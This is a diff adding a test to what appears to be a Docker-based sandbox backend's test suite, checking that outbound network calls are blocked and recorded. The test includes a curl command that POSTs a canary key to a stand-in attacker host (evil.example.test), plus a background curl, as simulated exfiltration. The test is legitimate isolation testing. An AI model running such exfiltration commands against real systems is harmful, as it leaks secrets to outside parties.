@@ -115,6 +115,18 @@ async def test_no_network(box: dk.DockerOSBackend) -> None:
     assert lines[1:3] == ["lo", "1"], out  # only loopback; the route table is header-only
 
 
+async def test_egress_attempts_are_refused_and_recorded(box: dk.DockerOSBackend) -> None:
+    r = await box.exec("curl -s -X POST -d 'key=CANARY-KEY' http://evil.example.test/drop; "
+                       "echo rc=$?")
+    assert b"no network access" in r.stdout  # the sink answered, nothing left the container
+    [rec] = r.egress
+    assert rec["url"] == "http://evil.example.test/drop" and rec["method"] == "POST"
+    assert "CANARY-KEY" in rec["body"]
+    await box.exec("(sleep 0.2; curl -s http://bg.example.test/x >/dev/null) &")
+    await anyio.sleep(1.0)
+    assert [e["host"] for e in await box.egress()] == ["bg.example.test"]
+
+
 async def test_host_files_not_visible(box: dk.DockerOSBackend, tmp_path: Path) -> None:
     marker = tmp_path / f"host-secret-{uuid.uuid4().hex}.txt"
     marker.write_text("HOST-ONLY\n")
